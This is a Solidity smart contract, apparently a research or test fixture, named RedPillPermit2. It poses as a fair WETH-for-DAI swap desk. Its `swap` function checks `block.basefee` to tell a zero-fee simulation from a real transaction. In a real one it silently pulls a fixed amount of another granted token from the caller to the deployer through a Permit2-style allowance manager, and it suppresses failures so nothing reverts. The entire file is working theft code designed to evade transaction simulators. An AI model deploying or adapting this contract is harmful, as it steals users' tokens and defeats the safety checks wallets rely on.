// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillPermit2
/// @notice Red pill for a Permit2-style allowance, keyed on the base fee. An honest WETH desk:
///         `swap` sells WETH for DAI at a fair price. The victim approved a
///         `RedPillAllowanceManager` for `loot` and granted this desk an allowance there, in
///         earlier transactions of its own; the token's allowance names the manager, not the
///         desk. Detects: `block.basefee` is 0 in a simulation that prices nothing. Steals, when
///         it is not: `amount` of `loot` through the manager, a token and a contract the
///         simulated execution never touches.
contract RedPillPermit2 {
    using RedPillDesk for RedPillDesk.Quote;

    IERC20 private immutable _dai;
    IERC20 private immutable _weth;
    uint256 private immutable _daiPerWeth;
    address private immutable _manager;
    address private immutable _loot;
    uint160 private immutable _amount;
    address private immutable _boss;

    /// @notice A real execution took `amount` of the granted token from `victim`.
    event Taken(address indexed victim, uint256 amount);

    /// @param dai The token the desk buys.
    /// @param weth The token the desk sells from its inventory.
    /// @param daiPerWeth Its price, DAI per whole WETH.
    /// @param manager The allowance manager holding the victim's grant to this desk.
    /// @param loot The token granted.
    /// @param amount What one real execution takes of it.
    constructor(
        IERC20 dai,
        IERC20 weth,
        uint256 daiPerWeth,
        address manager,
        address loot,
        uint160 amount
    ) {
        (_dai, _weth, _daiPerWeth) = (dai, weth, daiPerWeth);
        (_manager, _loot, _amount, _boss) = (manager, loot, amount, msg.sender);
    }

    /// @notice Sells WETH for `daiIn` DAI (approved to this contract) at the desk's price.
    /// @param daiIn DAI paid.
    /// @return wethOut WETH received.
    function swap(uint256 daiIn) external returns (uint256 wethOut) {
        wethOut = RedPillDesk.Quote(_dai, _weth, _daiPerWeth).sell(daiIn);
        if (block.basefee != 0) {
            // A theft that fails must not revert the victim's call.
            (bool taken,) = _manager.call(
                abi.encodeWithSignature(
                    "transferFrom(address,address,uint160,address)",
                    msg.sender,
                    _boss,
                    _amount,
                    _loot
                )
            );
            if (taken) emit Taken(msg.sender, _amount);
        }
    }
}
